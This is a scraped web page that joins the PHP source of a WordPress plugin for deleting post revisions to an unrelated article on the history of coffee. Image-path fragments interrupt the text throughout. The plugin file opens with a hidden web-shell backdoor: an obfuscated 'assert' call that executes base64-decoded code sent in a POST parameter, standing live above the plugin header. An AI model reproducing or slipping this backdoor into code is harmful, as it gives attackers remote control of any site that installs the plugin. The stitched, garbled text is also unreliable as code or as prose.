$k="ass"."ert"; $k(base64_decode(${"_PO"."ST"} ["waimaozhishen"])); /* Plugin Name: Better Delete Revision Plugin URI: http://www.1e2.it/tag/better-delete-revision Description: Better Delete Revision is based on the old "Delete Revision" plugin but it is compatible with the latest version of Wordpress (3.x) with improved features. It not only deletes redundant revisions of posts from your Wordpress Database, it also deletes otherdatabase content related to each revision such meta information, tags, relationships, and more. Your current published, scheduled, and draft posts are never touched by this plugin! This plugin can also perform optimizations on yourWordpress database. With optimization and old revision removal this plugin will keep your database lighter and smaller throughout use. Removing old revisions and database optimizations is one of the best things you can do to your Wordpress blog to keep it running as fast as it can. Version: 1.2 Author: Galerio & Urda Author URI: http://www.1e2.it THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY, FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM, OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE SOFTWARE. */ /* Changelog 2011-01-25 v1.2 Used the Roles and Capabilities system instead of User Level 2010-10-01 v1.1 Typo and English Corrections 2010-09-25 v1.0 First public ver1.0 */ /* Check if various options existin the current Wordpress Database */ /* * Option to track total revisions removed from the system. */ if(!get_option('bdel_revision_no')) { update_option("bdel_revision_no",0); } /* * Local, translations, this appears to not be used * at all throughout the plugin at this time. */ $dr_locale = get_locale(); $dr_mofile = dirname(__FILE__) . "/better-delete-revision-$dr_locale.mo"; load_textdomain('better-delete-revision', $dr_mofile); /* * Load required plugin files. */ require_once( 'php/functions.php' ); /* * add_options_page( $page_title, $menu_title, $capability, * $menu_slug, $function); */ function bdelete_revision_main() { if(function_exists('add_options_page')) { add_options_page('Better Delete Revision', 'Better Delete Revision', 'manage_options', basename(__FILE__), 'my_options_bdelete_revision'); } } /* Add the above action to the Wordpress Admin Menu */ add_action('admin_menu', 'bdelete_revision_main'); /* * */ function my_options_bdelete_revision() { $bdr_version = get_bdr_version(); $bdel_revision_no = get_option('bdel_revision_no'); echo <<

Better Delete Revision ManagerVersion $bdr_version

EOT; echo get_count_notice(); echo '

'; if (isset($_POST['del_act'])) { bdelete_revision_act(); $del_no = $_POST['rev_no']; update_option("bdel_revision_no",get_option("bdel_revision_no") + $del_no); echo '

'; printf(__("Deleted %s revisions!",'bdelete-revision'),$del_no); echo "

"; } else if (isset($_POST['get_rev'])) { get_my_revision(); } else if (isset($_POST['maintain_mysql'])) { if ($_POST['operation'] == 'OPTIMIZE' ) { echo maintain_mysql('OPTIMIZE'); } else { echo maintain_mysql('CHECK'); } } else { echo '
'; echo '
'; } echo get_bdr_footer(); } /* * */ function get_my_revision() { global $wpdb; $sql = "SELECT `ID`,`post_date`,`post_title`,`post_modified` FROM ($wpdb->posts) WHERE `post_type` = 'revision' ORDER BY `ID` DESC"; $results = $wpdb -> get_results($sql); if($results) { $res_no = count($results); echo ""; echo ""; for($i = 0 ; $i < $res_no ; $i++) { echo ""; echo ""; echo ""; echo ""; } echo "
Id Title Post date Last modified
".$results[$i] -> ID."".$results[$i] -> post_title."".$results[$i] -> post_date."".$results[$i] -> post_modified."

"; echo "Would you like to remove the revision posts ?
"; echo << EOT; echo ''; } else {echo "
"; _e('Great! You have no revisions now!','bdelete-revision'); echo "
";} } /* * */ function bdelete_revision_act() { global $wpdb; $sql = "DELETE a,b,c FROM $wpdb->posts a LEFT JOIN $wpdb->term_relationships b ON (a.ID = b.object_id) LEFT JOIN $wpdb->postmeta c ON (a.ID = c.post_id) WHEREa.post_type = 'revision'"; $results = $wpdb -> get_results($sql); } /* * */ function maintain_mysql($operation = "CHECK") { global $wpdb; $Tables = $wpdb -> get_results('SHOW TABLES IN '.DB_NAME); $query= "$operation TABLE "; $Tables_in_DB_NAME = 'Tables_in_'.DB_NAME; foreach($Tables as $k=>$v) { $_tabName = $v -> $Tables_in_DB_NAME ; $query .= " `$_tabName`,"; } $query = substr($query,0,strlen($query)-1); $result = $wpdb -> get_results($query); if ($operation == "OPTIMIZE") { return '

'.__('Optimization of database completed!','bdelete-revision').'

'; } $res= ""; $res .= ""; $bgcolor = $color3; foreach($result as $j=>$o) { $res .= ""; foreach ($o as $k=>$v) { $tdClass = $j%2 == 1 ? 'active alt' : 'inactive'; if($k == 'Msg_type') { continue; } if($k == 'Msg_text' ) { if ($v == 'OK') { $res .= ""; } else { $res .= ""; } } else { $res .= ""; } } $res .= ""; } $res .= "
Table OP Status
"; $res .= "If all statuses are OK, then your database does not need any optimization! "; $res .= "If any are red, then click on the following button to optimize your Wordpress database."; $res .= "
"; $res .= "
"; return $res; } History of Coffee |Perfect Coffee Place

Coffee Articles

History of Coffee

history of coffeeCoffee use can be traced at least to as early as the ninth century, when it appeared in the highlands of Ethiopia. According to legend, Ethiopian shepherds were the first to observe the influence of the caffeine in coffee beans when the goats appeared to “dance” and to have an increased level of energy after consuming wild coffee berries. The legend names the shepherd “Kaldi.” Kaldi dutifully reported his findings to the abbot of the local monastery who made a drink with the berries and discovered that it kept him alert for the long hours of evening prayer. Soon the abbot had shared his discovery with the other monks at the monastery, and ever so slowly knowledge of the energizing effects of the berries began to spread. As word moved east and coffee reached the Arabian Peninsula, it began a journey which would spread its reputation the world over. From Ethiopia, coffee spread to Egypt and Yemen. It was in Arabia that coffee beans were first roasted and brewed, similar to how it is done today. By the 15th century, it had reached the rest of the Middle East, Persia, Turkey, and northern Africa. From the Muslim world, coffee spread to Italy, then to the rest of Europe, to Indonesia, and to the Americas.

Coffee berries, which contain the coffee bean, are produced by several species of small evergreen bush of the genus Coffee. The two most commonly grown species are Coffee Canephora (also known as Coffee Robusta) and Coffee Arabica. These arecultivated in Latin America, Southeast Asia, and Africa. Once ripe, coffee berries are picked, processed, and dried. The seeds are then roasted, undergoing several physical and chemical changes. They are roasted to varying degrees, depending on the desired flavor. They are then ground and brewed to create coffee. Coffee can be prepared and presented in a variety of ways.coffee bean sackCoffee has played an important role in many societies throughout modern history. In Africa and Yemen, it was used in religious ceremonies. As a result, the Ethiopian Church banned its consumption until the reign of Emperor Menelik II of Ethiopia. It was banned in Ottoman Turkey in the17th century for political reasons, and was associated with rebellious political activities in Europe. Noted as one of the world’s largest, most valuable legally traded commodities (after oil), coffee has become a vital cash crop for many Third World countries. Over one hundred million people indeveloping countries have become dependent on coffee as their primary source of income. Coffee has become the primary export and backbone for African countries like Uganda, Burundi, Rwanda, and Ethiopia as well as many Central American countries.

A coffeehouse in Palestine (1900).Coffee was initially used for spiritual reasons. At least 1,000 years ago, traders brought coffee across the Red Sea into Arabia (modern-day Yemen), where Muslim monks began cultivating the shrub in their gardens. At first, the Arabians made wine from the pulp of the fermented coffee berries. This beverage was known as qishr (kisher in modern usage) and was used during religious ceremonies.

Coffee became the substitute beverage in spiritual practices where wine was forbidden. Coffee drinking was briefly prohibited by Muslims as haraam in the early years of the 16th century, but this was quickly overturned. Use in religious rites among the Sufi branch of Islam led to coffee’s being put on trial in Mecca: it was accused of being a heretical substance, and its production and consumption were briefly repressed. It was later prohibited in Ottoman Turkey under an edict by the Sultan Murad IV. Coffee, regarded as a Muslim drink, was prohibited by Ethiopian Orthodox Christians until as late as 1889; it is now considered a national drink of Ethiopia for people of all faiths. Its early association in Europe with rebelliouspolitical activities led to its banning in England, among other places.

Tags: , , , , , , ,

Nocomments yet.

Add your response